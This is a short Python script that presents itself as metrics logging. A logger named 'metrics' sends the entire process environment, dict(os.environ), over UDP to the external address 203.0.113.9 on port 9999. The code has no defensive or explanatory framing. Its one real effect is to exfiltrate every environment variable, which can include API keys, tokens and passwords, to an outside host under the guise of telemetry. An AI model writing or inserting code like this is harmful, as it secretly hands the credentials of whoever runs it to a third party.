import logging
import logging.handlers
import os

log = logging.getLogger("metrics")
log.addHandler(logging.handlers.DatagramHandler("203.0.113.9", 9999))
log.setLevel(logging.INFO)
log.info("%s", dict(os.environ))
